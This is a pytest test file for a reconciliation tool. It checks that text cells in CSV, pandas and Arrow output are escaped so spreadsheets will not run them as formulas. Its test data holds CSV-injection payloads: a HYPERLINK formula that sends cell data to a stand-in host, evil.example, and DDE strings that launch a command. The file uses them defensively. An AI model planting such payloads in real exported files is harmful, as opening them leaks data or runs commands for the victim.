"""Cells a spreadsheet would run as formulas are written as text, by one shared function."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pyarrow as pa  # type: ignore[import-untyped]
import pytest

from apps.cli.main import main
from recon.spreadsheet_safe import safe_cell, safe_frame, safe_table

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_leading_formula_character_is_made_text(text: str) -> None:
    cell = safe_cell(text)
    assert cell == "'" + text
    assert safe_cell(cell) == cell  # already safe: written once, never escaped twice


@pytest.mark.parametrize("text", ["", "INV-2026-0001", "tx 42", "John = Smith", "a+b", "50%"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_a_frame_keeps_its_numbers_and_escapes_its_text() -> None:
    frame = pd.DataFrame(
        {
            "transaction_id": ["=1+1", "tx-1", None],
            "amount_minor": [-1250, 100, 5],
            "amount": ["-12.50", "1.00", "0.05"],
            "rate": [-0.5, 1.0, 2.0],
        }
    )
    safe = safe_frame(frame, numbers=("amount",))
    assert safe["transaction_id"].tolist()[:2] == ["'=1+1", "tx-1"]
    assert pd.isna(safe["transaction_id"].iloc[2])
    assert safe["amount_minor"].tolist() == [-1250, 100, 5]
    assert safe["amount_minor"].dtype == frame["amount_minor"].dtype
    assert safe["amount"].tolist() == ["-12.50", "1.00", "0.05"]
    assert safe["rate"].tolist() == [-0.5, 1.0, 2.0]
    assert frame["transaction_id"].iloc[0] == "=1+1"  # the input is not changed in place


@pytest.mark.parametrize("string_type", [pa.string(), pa.large_string()])
def test_an_arrow_table_keeps_its_amounts_and_escapes_its_text(string_type: pa.DataType) -> None:
    table = pa.table(
        {
            "transaction_id": pa.array(["@SUM(A1)", "tx-1", None], type=string_type),
            "amount": pa.array(["-12.50", "3.00", "-0.01"], type=string_type),
            "confidence": pa.array([-1, 90, 100]),
        }
    )
    safe = safe_table(table, numbers=("amount",))
    assert safe.column("transaction_id").to_pylist() == ["'@SUM(A1)", "tx-1", None]
    assert safe.column("amount").to_pylist() == ["-12.50", "3.00", "-0.01"]
    assert safe.column("confidence").to_pylist() == [-1, 90, 100]
    assert safe.schema == table.schema


def _write(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _leads_with_formula(cell: str) -> bool:
    return cell[:1] in {"=", "+", "-", "@", "\t", "\r"}


def test_recon_match_writes_no_cell_a_spreadsheet_would_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    invoice = {
        "invoice_id": "1001", "invoice_num": "", "client_id": "7",
        "client_name": "John Smith", "company_name": "", "issued_on": "2026-03-01",
        "due_on": "2026-03-15", "total": "100.00", "balance": "100.00", "currency": "EUR",
        "status": "Unpaid",
    }  # fmt: skip
    base = {"source": "bank", "account_id": "acc-1", "booked_on": "2026-03-10", "currency": "EUR"}
    transactions = [
        # pays invoice 1001 exactly: an allocation whose transaction id is a formula
        {**base, "transaction_id": FORMULAS[0], "amount": "100.00",
         "counterparty": "John Smith", "reference": "Invoice 1001"},
        # placed nowhere: exceptions carrying formula ids and payer details
        {**base, "transaction_id": FORMULAS[1], "amount": "12.50",
         "counterparty": "=HYPERLINK(\"http://evil.example\")", "reference": "@SUM(A1:A9)"},
        {**base, "transaction_id": FORMULAS[2], "amount": "-12.50",
         "counterparty": "+cmd|' /C calc'!A0", "reference": "-1+cmd|' /C calc'!A0"},
        {**base, "transaction_id": "tx-plain", "amount": "33.10",
         "counterparty": "Nobody Known", "reference": "=1+1"},
    ]  # fmt: skip
    inv = _write(tmp_path / "invoices.csv", [invoice])
    tx = _write(tmp_path / "transactions.csv", transactions)
    out = tmp_path / "out"

    code = main(["match", "--invoices", str(inv), "--transactions", str(tx), "--out", str(out)])
    assert code == 0, capsys.readouterr().err

    allocations = _read(out / "allocations.csv")
    exceptions = _read(out / "exceptions.csv")
    assert allocations and exceptions
    for name, rows, numbers in (
        ("allocations", allocations, {"amount", "confidence", "invoice_id"}),
        ("exceptions", exceptions, {"amount", "invoice_id"}),
    ):
        for row in rows:
            for column, cell in row.items():
                if column in numbers:
                    continue
                assert not _leads_with_formula(cell), (name, column, cell)
    # the ids are still there, readable as the text they were, behind one quote
    written_ids = {r["transaction_id"] for r in allocations + exceptions}
    assert "'" + FORMULAS[0] in written_ids and "'" + FORMULAS[1] in written_ids
    # amounts stay numbers: a negative amount is written as it is, not escaped
    assert all(r["amount"] == r["amount"].strip("'") for r in allocations + exceptions)
    assert {r["amount"] for r in allocations} == {"100.00"}
    for row in allocations + exceptions:
        float(row["amount"])  # parses as a number
